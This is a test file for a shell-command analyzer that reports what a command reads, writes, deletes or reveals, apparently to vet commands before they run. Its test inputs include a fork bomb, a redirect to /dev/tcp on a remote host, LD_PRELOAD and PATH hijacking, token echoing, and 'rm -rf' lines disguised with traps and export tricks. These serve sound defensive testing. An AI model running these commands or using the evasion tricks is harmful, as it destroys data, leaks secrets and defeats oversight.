/** The analysis of a command: its words, its branches, its effects. */

import {assert, asyncProperty, constantFrom, array, string, oneof} from 'fast-check';
import {afterAll, expect, test} from 'vitest';

import {emptySurroundings} from '../../../tools/commands/surroundings-of.ts';
import {understand} from '../../../tools/commands/reader.ts';
import {pairs, cells} from '../../support/rows.ts';
import {createGround, understandingText} from './understood.ts';

const untouched = createGround(afterAll);

test.each([
  ['cat src/a.ts', 'reads src/a.ts clean'],
  ['cat "src/"a.ts', 'reads src/a.ts clean'],
  ["cat 'src'/\\a.ts", 'reads src/a.ts clean'],
  ['X=src; cat $X/a.ts', 'reads src/a.ts clean'],
  ['X=src Y=$X/a.ts; cat "${Y}"', 'reads src/a.ts clean'],
  ['X=/etc; cat $X/passwd', 'reads /etc/passwd outside'],
  ['cat ${NONE:-src}/a.ts', '? ${NONE:-src}/a.ts: may be several words, or options'],
  ['unset NONE; cat ${NONE:-src/a.ts}', 'reads src/a.ts clean'],
  ['Y=src/a.ts; cat ${Y%.ts}.js', 'reads src/a.js absent'],
  ['Y=src/a.ts; cat ${Y#*/}', 'reads a.ts absent'],
  ['Y="src/a.ts src/b.ts"; cat $Y', 'reads src/a.ts clean, reads src/b.ts changed'],
  ['cd src && cat a.ts', 'reads src/a.ts clean'],
  ['cd src; cd ..; cat new.txt', 'reads new.txt untracked'],
  ['(cd src; cat a.ts); cat new.txt', 'reads src/a.ts clean, reads new.txt untracked'],
  ['cat "$(dirname src/a.ts)/b.ts"', 'reads src/b.ts changed'],
  ['cat "$PWD/new.txt"', 'reads new.txt untracked'],
  ['for f in a b; do cat src/$f.ts; done', 'reads src/a.ts clean, reads src/b.ts changed'],
  ['for f in src/*; do cat "$f"; done', 'reads src/a.ts clean wide, reads src/b.ts changed wide'],
  ['cat src/*.ts', 'reads src/a.ts clean wide, reads src/b.ts changed wide'],
  ['f() { cat "$1"; }; f src/a.ts', 'reads src/a.ts clean'],
  ['set -- src/a.ts src/b.ts; shift; cat "$@"', 'reads src/b.ts changed'],
  ['[ -f src/a.ts ] && cat src/a.ts', 'reads src/a.ts clean'],
  ['if true; then cat src/a.ts; else cat new.txt; fi', 'reads src/a.ts clean'],
  ['false || cat src/a.ts', 'reads src/a.ts clean'],
  ['false && cat src/a.ts', ''],
  ['exit 0; cat src/a.ts', ''],
  ['n=$(ls src | wc -l); echo $((n * 2))', 'lists src unknown'],
  [
    'wc -l $(find src -name "*.ts")',
    'lists src unknown, reads src/a.ts clean wide, reads src/b.ts changed wide',
  ],
  ['cat /etc/**/x', 'reads /etc outside wide'],
  ['cat src/{a,b}.ts', 'reads src/{a,b}.ts absent, reads src/a.ts clean, reads src/b.ts changed'],
  ['cat <(cat src/a.ts)', 'reads src/a.ts clean'],
  ['i=0; while [ $i -lt 3 ]; do i=$((i + 1)); echo $i; done', ''],
  [
    'ls --frobnicate; python3 -c x',
    'lists . unknown, ? ls --frobnicate: is not a known option, ? python3 -c: runs code, or has effects that no rule can determine',
  ],
  ['for d in */; do (cd "$d" && cat a.ts); done', 'reads dist/a.ts absent, reads src/a.ts clean'],
])('%s: %s', async (command, expected) => {
  expect(await untouched.summary(command)).toBe(expected);
});

test.each([
  ...pairs(`
  echo a > new.txt ⇒ writes new.txt untracked ¦ echo a >> new.txt ⇒ appends new.txt untracked
  echo a >| other ⇒ writes other absent ¦ > new.txt ⇒ empties new.txt untracked
  : > src/a.ts ⇒ empties src/a.ts clean ¦ true >other ⇒ writes other absent
  cat /dev/null > src/a.ts ⇒ empties src/a.ts clean
  cat src/a.ts > src/a.ts ⇒ empties src/a.ts clean, reads src/a.ts clean
  cat src/a.ts | head > src/a.ts ⇒ reads src/a.ts clean, empties src/a.ts clean
  cat </dev/null > src/a.ts ⇒ empties src/a.ts clean ¦ cat < new.txt ⇒ reads new.txt untracked
  cat new.txt 2>/dev/null >&2 ⇒ reads new.txt untracked
  { echo a; echo b; } > other ⇒ writes other absent
  echo a > $UNSET ⇒ ? $UNSET: a redirection to a computed place
  echo a > *.txt ⇒ ? *.txt: a redirection to a computed place
  echo a > ../x ⇒ writes PARENT/x outside
`),
  ['cat <<EOF > other\na $X\nEOF', 'writes other absent'],
  ["cat <<'EOF'\n$(cat new.txt)\nEOF", ''],
  ['cat <<EOF\n$(cat new.txt)\nEOF', 'reads new.txt untracked'],
])('%s redirects: %s', async (command, expected) => {
  const parent = untouched.workspace.replace(/\/[^/]*$/, '');
  expect(await untouched.summary(command)).toBe(expected.replace('PARENT', parent));
});

test.each([
  ...cells(`
  cat *** ¦ frobnicate ¦ sh -c 'rm "$0"' * ¦ wc() { ls; }; n=$(wc -l); echo $((n)) ¦ $X
  "$(cat new.txt)" a ¦ eval "$X" ¦ cat $(cat new.txt) ¦ cat $'a' ¦ cat >(ls) ¦ cat {1..3}
  X={a,b} ¦ ls > {a,b} ¦ a=(1 2) ¦ a+=1 ¦ ((x = 1)) ¦ cat a &>f b ¦ function f { ls; }
  select x in a; do ls; done ¦ coproc ls ¦ cat \${!x} ¦ cat \${x/a/b} ¦ alias ls=rm; ls
  PATH=/tmp ls ¦ LD_PRELOAD=./x.so ls ¦ GIT_SSH_COMMAND=x git status ¦ export PATH=/tmp; ls
  read PATH ¦ for PATH in a; do ls; done ¦ X=$(cat new.txt); echo $((X)) ¦ if cat ¦ cat ) ¦ cat "a
  cat 'a ¦ cat \u0000 ¦ case a in a) ls;& b) ls;; esac ¦ :(){ :|:& };:
  while true; do cat $x; done ¦ cd $X; cat a ¦ cd "$X"; ls ¦ . ./missing; . $X ¦ exec -a x ls
  set -k ¦ command -p ls ¦ ls > /dev/tcp/example.com/80
`),
  'cat <<EOF\nnever ends',
  'cat a\\\nb',
  'cat \r',
])('is not understood: %s', async (command) => {
  const {unknown} = await untouched.understand(command);
  expect(unknown).not.toEqual([]);
});

test.each([
  ['dash keeps what stands before export', 'X=dist; X=src export Y=1; rm -rf $X'],
  ['dash keeps what stands before local', 'f() { X=dist; X=src local Y=1; rm -rf $X; }; f'],
  ['the folder is what somebody said it is', 'cd dist; PWD=../src; rm -rf $PWD/*'],
  ['a trap may run between any two commands', "X=dist; trap 'X=src' DEBUG; rm -rf $X"],
  ['a trap may go elsewhere', "trap 'cd src' USR1; rm -rf dist"],
  ['the operand of a text is code', "sh -c 'echo $(($1))' x 'a[$(ls)]'"],
  ['a variable is handed on', "export b='a[$(ls)]'; sh -c 'echo $((b))'"],
  ['operands are not known', 'set -- $(cat new.txt); echo $(($1))'],
  ['without a path it is the folder where one is', 'unset PATH; ls'],
  ['bash forgets the function', 'ls() { :; }; unset ls; ls'],
  ['dash continues with the remaining operands', 'set -- src; shift 5; rm -rf $1 dist'],
  [
    'an inner function unsets what an outer one has',
    'f() { local X=dist; g; ls $X; }; g() { unset X; ls $X; }; f',
  ],
  ['export is not written out', 'X=dist; \\export X=src; rm -rf $X'],
  ['export is called as a program', 'X=dist; command export X=src; rm -rf $X'],
  ['export is in a variable', 'X=dist; e=readonly; $e X=src; rm -rf $X'],
  ['a value for one command sets another', 'unset X; Y=${X:=src} ls; rm -rf $X dist'],
  ['a program is named by a variable', 'X_BINARY_PATH=./evil npm test'],
])('%s: %s is not understood', async (_, command) => {
  expect((await untouched.understand(command)).unknown).not.toEqual([]);
});

test('in some shells .* also matches the parent folder', async () => {
  expect(await untouched.summary('rm -rf dist/.*/src')).toContain('deletes src changed wide');
  expect(await untouched.summary('cat dist/.?/new.txt')).toContain('reads new.txt untracked');
  expect(await untouched.summary('ls -d .*')).not.toContain('outside');
});

test('after a link was followed, .. is another folder', async () => {
  const ground = createGround();
  ground.put('deep/er/x');
  ground.link('dist/link', '../deep/er');
  expect(await ground.summary('cat dist/l*/../x')).toBe('reads deep/x absent');
  expect(await ground.summary('git -C dist/link/../.. status')).toBe('');
  ground.link('out', '/usr');
  expect(await ground.summary('cd out && pytest')).toContain('leads out of the workspace');
  expect(await ground.summary('cd dist/link && ls')).toBe('lists deep/er unknown');
});

test.each(
  cells(`
  trap 'echo done' EXIT; ls ¦ trap 'X=1' 0; ls ¦ trap 'echo interrupted' INT TERM; ls
  x=1; echo $((x + 1)) ¦ f() { :; }; unset -f f ¦ unset NODE_ENV; ls
`),
)('a command without later effects is understood: %s', async (command) => {
  expect((await untouched.understand(command)).unknown).toEqual([]);
});

test.each([
  ['if ls; then X=src; else X=dist; fi; cat $X/x.js', 'src/x.js absent', 'dist/x.js ignored'],
  ['ls && X=src/; cat ${X}a', 'src/a absent', '${X}a'],
  ['cd src && ls; cat a.ts', 'src/a.ts clean', ''],
  ['cd nowhere; cat new.txt', 'nowhere/new.txt absent', 'new.txt untracked'],
])('if a text may branch, each branch counts: %s', async (command, ...expected) => {
  const shown = await untouched.summary(command);
  for (const part of expected) expect(shown).toContain(part);
});

test.each([
  ['X=a; for i in 1 2; do X=$X$i; done; cat $X', /^reads a12 absent$/],
  ['X=a; while ls; do X=$X.b; done; cat "$X"', /\? \$X|a computed place/],
  ['X=a; ls | X=b; cat $X', /reads a absent$/],
  ['X=a; ls & X=b; cat $X', /reads b absent$/],
  ['(X=b); X=a; (X=c); cat $X', /^reads a absent$/],
  ['for i in 1 2 3; do X=$i; ls || break; X=z; done; cat $X', /reads z absent.*reads 1 absent/],
  ['f() { local X=in; }; X=out; f; cat "$X"', /\$X/],
])('loops, pipes and subshells keep their settings: %s', async (command, expected) => {
  expect(await untouched.summary(command)).toMatch(expected);
});

test('a file that the command creates is not the inspected one', async () => {
  expect(await untouched.summary('mv new.txt dist/ && rm -rf dist')).toContain(
    'deletes dist untracked',
  );
  expect(await untouched.summary('ln -s / r; cat r/etc/passwd')).toContain('may be a link');
  expect(await untouched.summary('echo ls > a.sh; . ./a.sh')).toContain(
    'changes it before it runs',
  );
  expect(await untouched.summary('echo ls > a.sh; ./a.sh')).toContain('changes it before it runs');
  expect(await untouched.summary('mkdir d && cd d && echo a > b')).toBe(
    'creates d absent, writes d/b absent',
  );
});

test.each([
  'cp evil.js vitest.config.ts; npm test',
  'echo x >> src/a.ts && npm test',
  'cp evil.js node_modules/x.js; npm run build',
  'tee src/c.py < new.txt | cat; python3 src/a.py',
])(
  'code that may load what the same command has changed is not understood: %s',
  async (command) => {
    const ground = createGround();
    ground.put('package.json', JSON.stringify({scripts: {test: 'ls', build: 'ls'}}));
    ground.put('src/a.py');
    expect(await ground.summary(command)).toContain('runs after this command has changed');
  },
);

test.each([
  'npm test > out.json',
  'echo a > note.txt; npm test',
  'mkdir -p x; npm test',
  'echo a > dist/b; npm test',
])(
  'a file that no program loads, or that is written after the program has run, does no harm: %s',
  async (command) => {
    const ground = createGround();
    ground.put('package.json', JSON.stringify({scripts: {test: 'ls'}}));
    expect((await ground.understand(command)).unknown).toEqual([]);
  },
);

test('paths piped to xargs are known from the program that finds them', async () => {
  const ground = createGround();
  const found = 'src/a.ts clean wide, reads src/b.ts changed wide';
  expect(await ground.summary('find src -name "*.ts" | sort | xargs cat')).toBe(
    `lists src unknown, reads ${found}`,
  );
  expect(await ground.summary('grep -rl a src | xargs rm')).toContain(
    'deletes src/a.ts clean wide',
  );
  ground.put('.env');
  const known =
    'reads .gitignore clean wide, reads src/a.ts clean wide, reads src/b.ts changed wide';
  expect(await ground.summary('git ls-files | xargs cat')).toBe(known);
  expect(await ground.summary('git ls-files -z | xargs -0 cat')).toBe(known);
  expect(await ground.summary('rg -l a | xargs cat')).toBe(
    'reads . unknown wide, reads .gitignore clean wide, reads new.txt untracked wide, ' +
      `reads ${found}`,
  );
  expect(await ground.summary("git ls-files '*.ts' | xargs cat")).toBe(
    `lists *.ts absent, reads ${found}`,
  );
  for (const lister of ['git ls-files -o', "rg -l a -g '*'", 'git show --name-only', 'fd -H a'])
    expect(await ground.summary(`${lister} | xargs cat`)).toContain('reads .env untracked wide');
  ground.put('src/-rf');
  expect((await ground.understand('find src | xargs rm')).unknown).not.toEqual([]);
});

test.each(['(sleep 3600; rm -rf later) &', 'sleep 600 && mv later .x', '{ rm -rf later; } &'])(
  'what is absent now may be there by then: %s',
  async (command) => {
    expect(await untouched.summary(command)).toContain('by then is not known');
  },
);

test.each(
  pairs(`
  git checkout other ⇒ all ¦ git switch - ⇒ all ¦ git -C . --no-pager merge other ⇒ all
  git pull ⇒ all ¦ git stash pop ⇒ all ¦ git reset ⇒ all ¦ git stash ⇒ changed
  git stash push -m x ⇒ changed ¦ git checkout -b new ⇒ none ¦ git switch -c new ⇒ none
  git stash list ⇒ none ¦ git log ⇒ none
`),
)('after %s the state of files is unknown: %s', async (command, which) => {
  const ground = createGround();
  ground.put('clean.sh', 'ls\n');
  ground.git('add', '-A');
  ground.put('src/c.sh', 'ls\n');
  ground.git('add', 'src/c.sh');
  ground.put('src/c.sh', 'ls src\n');
  const isOther = async (then: string) =>
    /changes it before it runs|switches to other versions/.test(
      await ground.summary(`${command}; ${then}`),
    );
  expect(await isOther('sh clean.sh')).toBe(which === 'all');
  expect(await isOther('rm clean.sh')).toBe(which === 'all');
  expect(await isOther('echo x > none.ts')).toBe(which === 'all');
  expect(await isOther('sh src/c.sh')).toBe(which !== 'none');
  expect(await isOther('echo x > src/c.sh')).toBe(which !== 'none');
  expect(await isOther('rm -rf dist; ls src; echo x > a.log')).toBe(false);
});

test.each([
  ['echo a > f; rm f', true],
  ['mkdir -p d/e; touch d/e/f; rm -rf d/e', true],
  ['rm -f f; rm f', false],
  ['mv new.txt f; rm f', false],
  ['rm f', false],
])(
  'a file that the command creates at a free place belongs to the run: %s',
  async (command, isMade) => {
    const {effects} = await untouched.understand(command);
    expect(effects.at(-1)).toMatchObject({kind: 'deletes'});
    expect(effects.at(-1)?.place?.isMade ?? false).toBe(isMade);
  },
);

test.each(
  cells(`
  cat < /dev/zero > f ¦ tee f < /dev/../dev/urandom ¦ { cat; } < /dev/zero > f
  exec < /dev/zero; cat > f ¦ sh -c 'cat > f' < /dev/zero ¦ f() { cat > f; }; f < /dev/full
`),
)('an endless input never ends: %s', async (command) => {
  expect(await untouched.summary(command)).toContain('never ends');
  expect(await untouched.summary('head -c 16 < /dev/urandom; : < /dev/zero')).not.toContain('ends');
});

test.each([
  `echo ${'a '.repeat(14_000)}`,
  `rm ${'a '.repeat(14_000)}`,
  `${'env '.repeat(7_000)}ls`,
  `rm ${'{a,b}'.repeat(30)}`,
  `a=xx;${'a=$a$a;'.repeat(4_000)}rm $a`,
  `cat ${'<a '.repeat(9_900)}`,
  `set -- ${'x '.repeat(900)}; rm ${'"$@" '.repeat(900)}`,
])('many words take time in proportion: %.20s', async (command) => {
  const before = process.threadCpuUsage();
  await untouched.understand(command);
  const {user, system} = process.threadCpuUsage(before);
  expect((user + system) / 1_000).toBeLessThan(1_500);
});

test('a pattern without matches stands for nothing at present', async () => {
  expect(await untouched.summary('rm -f dist/*.css')).toBe('deletes dist/*.css absent');
  expect(await untouched.summary('sleep 1; rm -rf later')).toBe('deletes later absent');
});

test('a secret of the environment that becomes a word is revealed', async () => {
  expect(await untouched.summary('echo "$GITHUB_TOKEN"')).toBe('reveals GITHUB_TOKEN');
  expect(await untouched.summary('[ -n "$GITHUB_TOKEN" ]')).toBe('');
  expect(await untouched.summary('GITHUB_TOKEN=x; echo "$GITHUB_TOKEN"')).toBe('');
  expect(await untouched.summary('export -p; set')).toContain('reveals variables');
});

test('in a package script, a program that this run placed among the packages is unknown', async () => {
  const ground = createGround();
  ground.put('package.json', JSON.stringify({scripts: {test: 'ls'}}));
  for (const written of ['node_modules/.bin/ls', 'packages/a/node_modules/.bin/ls']) {
    const {unknown} = await ground.understand('npm test', {written: [written]});
    expect(unknown).toEqual([{word: 'ls', why: 'this run has written a program of this name'}]);
  }
});

test('a package script has the text of the manifest, with its pre and post scripts', async () => {
  const ground = createGround();
  ground.put(
    'package.json',
    JSON.stringify({scripts: {pretest: 'cat new.txt', test: 'rm -rf dist', loop: 'npm run loop'}}),
  );
  const {effects, followed} = await ground.understand('npm test');
  expect(understandingText({effects, unknown: [], followed, commands: []})).toBe(
    'reads new.txt untracked, deletes dist ignored wide',
  );
  expect(followed.map(({name, text}) => [name, text])).toEqual([
    ['package.json: pretest', 'cat new.txt'],
    ['package.json: test', 'rm -rf dist'],
  ]);
  expect(await ground.summary('npm run loop')).toContain('runs itself');
});

test('a script of a shell is followed, with its operands', async () => {
  const ground = createGround();
  ground.put('a.sh', '#!/bin/sh\ncat "$1"\n');
  ground.put('b.py', '#!/usr/bin/env python3\n');
  expect(await ground.summary('./a.sh src/a.ts')).toBe(
    'reads a.sh untracked, reads src/a.ts clean',
  );
  expect(await ground.summary('./b.py')).toBe('runs b.py untracked');
  expect(await ground.summary('. ./a.sh')).toContain('reads a.sh untracked');
  for (const command of ['./absent.sh', 'sh absent.sh', '. ./absent.sh']) {
    expect(await ground.summary(command)).toContain('does not exist');
  }
});

test('commands are recorded with their starting folder and their input', async () => {
  const {commands} = await untouched.understand('cd src && cat a.ts | wc -l; ls &');
  expect(
    commands.map(({name, folder, piped, background}) => [name, folder, piped, background]),
  ).toEqual([
    ['cd', '', false, false],
    ['cat', 'src', false, false],
    ['wc', 'src', true, false],
    ['ls', 'src', false, true],
  ]);
});

test('every text yields a result in time', async () => {
  const surroundings = emptySurroundings('/work');
  const piece = oneof(
    string(),
    constantFrom(
      ...'if then else fi for in do done while case esac { } ( ) ; & | && || > < << $( ) ` \' " \\ $ ${ } * ? [ ] ~ # ! = cat rm EOF'.split(
        ' ',
      ),
      '\n',
      ' ',
      'X=1',
    ),
  );
  await assert(
    asyncProperty(array(piece), async (pieces) => {
      const found = await understand(pieces.join(' '), {surroundings, folder: '', written: []});
      expect(found.commands.length).toBeLessThanOrEqual(500);
    }),
    {numRuns: 300},
  );
});

test.each([
  ['too long', `cat ${'a'.repeat(30_000)}`],
  ['too many words', 'cat ' + 'a '.repeat(1_001)],
  ['too many words of braces', 'cat ' + '{a,b}'.repeat(30)],
  ['a value that grows', 'a=xx;' + 'a=$a$a;'.repeat(30) + 'cat $a'],
  ['too deep', `${'$('.repeat(60)}ls${')'.repeat(60)}`],
  ['too many', Array.from({length: 600}, (_, at) => `cat f${at}`).join(';')],
  ['too many rounds', 'for a in 1 2 3 4 5 6 7 8 9; do '.repeat(8) + 'cat x' + '; done'.repeat(8)],
])('%s is not understood', async (_name, command) => {
  expect((await untouched.understand(command)).unknown).not.toEqual([]);
});

test.each([
  'node new.js',
  'python3 app.py',
  'docker build -f x/Dockerfile .',
  'mvn -f x/pom.xml test',
])('a missing file that is to be run is not understood: %s', async (command) => {
  expect(await untouched.summary(command)).toMatch(/\? \S+: is not there$/);
});

test.each(['node dist/main.js', 'make', 'mocha -r dotenv/config', 'eslint -f unix src'])(
  'what builds leave behind, rules of a default name and packages need not be there: %s',
  async (command) => {
    expect(await untouched.summary(command)).not.toContain('?');
  },
);
